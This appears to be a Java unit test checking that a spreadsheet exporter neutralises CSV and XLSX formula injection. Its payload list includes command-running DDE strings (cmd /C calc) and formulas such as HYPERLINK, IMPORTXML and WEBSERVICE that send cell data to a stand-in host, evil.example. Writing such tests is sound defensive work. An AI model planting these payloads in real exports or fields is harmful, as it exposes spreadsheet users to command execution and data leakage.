package works.metric.portal.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** What somebody typed in one place must not be carried out in the spreadsheet of another. */
class FormulaInjectionTest {

    static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
            "=IMPORTXML(CONCAT(\"https://evil.example/\",A2),\"//a\")",
            "=WEBSERVICE(\"https://evil.example\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "\tharmless",
            "\rharmless",
            "\0harmless",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1)",
            " =1+1",
            "   +1",
            "\u00A0=1+1",
            "\u3000=1+1",
            "\u200B=1+1",
            "\uFEFF=1+1",
            "\u2028=1+1",
            "\uFFFE=1+1",
            "\uDB40\uDC01=1+1",
            "\uE000+1",
            " \t =1+1",
            "=1+1\";=1+1",
            "\"=1+1",
            "x\",=1+1",
            "x\r\n=1+1",
            "=\"a\"\"b\"",
            "%0A=1+1");

    /** Of those above: harmless at their beginning, dangerous only if quotes or lines were let through. */
    private static final List<String> ONLY_QUOTED = List.of("\"=1+1", "x\",=1+1", "x\r\n=1+1", "%0A=1+1");

    private static final List<String> HARMLESS =
            List.of("", "no.example.game", "R-2026-0001", "a=b", "1-2", "Ærlig", " lead", "'quoted", "e@mail.example");

    @Test
    void noPayloadBeginsACellOfACsv() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SheetWriter sheet = SheetWriter.to(out, ExportFormat.CSV, "Requests")) {
            for (String payload : PAYLOADS) {
                sheet.row(List.of("before", payload, "after"));
            }
        }
        String text = out.toString(StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF\"before\",\"").endsWith("\"\r\n");

        List<CSVRecord> rows;
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(text.substring(1)))) {
            rows = parser.getRecords();
        }
        int caught = 0;
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String payload = PAYLOADS.get(i);
            String cell = rows.get(i).get(1);
            boolean prefixed = cell.equals("'" + payload);
            System.out.println("Formula " + (prefixed ? "made a text: " : "only quoted: ") + visible(payload) + " -> "
                    + visible(cell));
            assertThat(prefixed).as(visible(payload)).isEqualTo(!ONLY_QUOTED.contains(payload));
            assertThat(cell).endsWith(payload);
            assertThat(rows.get(i).size()).isEqualTo(3);
            caught++;
        }
        assertThat(rows).hasSize(PAYLOADS.size());
        System.out.println("Formula injection: " + caught + " payloads, live in CSV: 0");
    }

    @Test
    void eachCellOfASpreadsheetIsAText() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SheetWriter sheet = SheetWriter.to(out, ExportFormat.XLSX, "Requests")) {
            for (String payload : PAYLOADS) {
                sheet.row(List.of(payload, "after"));
            }
        }
        String xml = sheet(out.toByteArray());
        assertThat(xml).doesNotContain("<f>").doesNotContain("<f ").doesNotContain("\0");
        assertThat(xml.split("t=\"inlineStr\"", -1)).hasSize(PAYLOADS.size() * 2 + 1);
        assertThat(xml).contains("'=1+1", "'+1+1", "'@SUM");
        System.out.println("Formula injection: " + PAYLOADS.size() + " payloads, formulas in XLSX: 0");
    }

    @Test
    void harmlessTextsStayAsTheyAre() {
        assertThat(HARMLESS).allSatisfy(text -> assertThat(SafeCell.of(text)).isEqualTo(text));
        assertThat(SafeCell.of(null)).isEmpty();
    }

    static String sheet(byte[] xlsx) throws IOException {
        Path file = Files.createTempFile("sheet", ".xlsx");
        try {
            Files.write(file, xlsx);
            try (ZipFile zip = new ZipFile(file.toFile())) {
                return new String(
                                zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))
                                        .readAllBytes(),
                                StandardCharsets.UTF_8)
                        .replace("&apos;", "'");
            }
        } finally {
            Files.delete(file);
        }
    }

    private static String visible(String text) {
        StringBuilder visible = new StringBuilder();
        text.chars()
                .forEach(
                        at -> visible.append(at > 32 && at < 127 ? String.valueOf((char) at) : "<%04X>".formatted(at)));
        return visible.toString();
    }
}
